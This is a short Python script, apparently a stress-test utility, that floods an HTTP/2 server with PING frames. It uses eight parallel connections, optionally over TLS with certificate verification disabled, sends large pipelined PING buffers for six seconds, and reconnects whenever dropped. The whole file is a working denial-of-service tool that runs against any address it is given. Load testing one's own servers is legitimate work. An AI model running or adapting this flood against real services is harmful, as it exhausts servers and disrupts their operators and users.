"""Floods an HTTP/2 server with PING frames, as a program and as a bot; it needs no token.

It prints how many MiB it has sent.
"""

from __future__ import annotations

import os
import select
import socket
import ssl
import struct
import threading
import time
from collections.abc import Iterator

__all__: list[str] = []

_CONNECTIONS = 8
_SECONDS = 6.0
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_SETTINGS = struct.pack(">IBI", 4, 0, 0)  # an empty frame; 4 is its type
_PING = struct.pack(">BHBBI", 0, 8, 6, 0, 0) + bytes(8)
_PINGS = _PING * 4_000
_MIB = 1024 * 1024


def main() -> None:
    """Flood `MAZZO_ADDRESS`, over TLS if `FLOOD_TLS` is set."""
    address = os.environ["MAZZO_ADDRESS"]
    with_tls = "FLOOD_TLS" in os.environ
    end = time.monotonic() + _SECONDS
    sent = [0] * _CONNECTIONS

    def flood(index: int) -> None:
        while time.monotonic() < end:
            try:
                with _connect(address, with_tls=with_tls) as connection:
                    for size in _send_pings(connection, end, is_reading=index % 2 == 0):
                        sent[index] += size
            except OSError:  # it was sent away, and comes again
                time.sleep(0.01)

    threads = [threading.Thread(target=flood, args=(index,)) for index in range(_CONNECTIONS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(sum(sent) // _MIB)


def _connect(address: str, *, with_tls: bool) -> socket.socket:
    if address.startswith("unix:"):
        connection = socket.socket(socket.AF_UNIX)
        connection.connect(address.removeprefix("unix:"))
        return connection
    host, _, port = address.rpartition(":")
    connection = socket.create_connection((host, int(port)), timeout=_SECONDS)
    if not with_tls:
        return connection
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(connection)


def _send_pings(connection: socket.socket, end: float, *, is_reading: bool) -> Iterator[int]:
    """Send them until the `end`, whole, and tell the size of each part."""
    connection.sendall(_PREFACE + _SETTINGS)
    connection.settimeout(0.2)
    offset = 0
    while time.monotonic() < end:
        readable, _, _ = select.select([connection] if is_reading else [], [], [], 0)
        try:
            if readable and not connection.recv(1 << 20):
                return
            size = connection.send(_PINGS[offset:])
        except TimeoutError:
            continue
        offset = (offset + size) % len(_PINGS)
        yield size


if __name__ == "__main__":
    main()
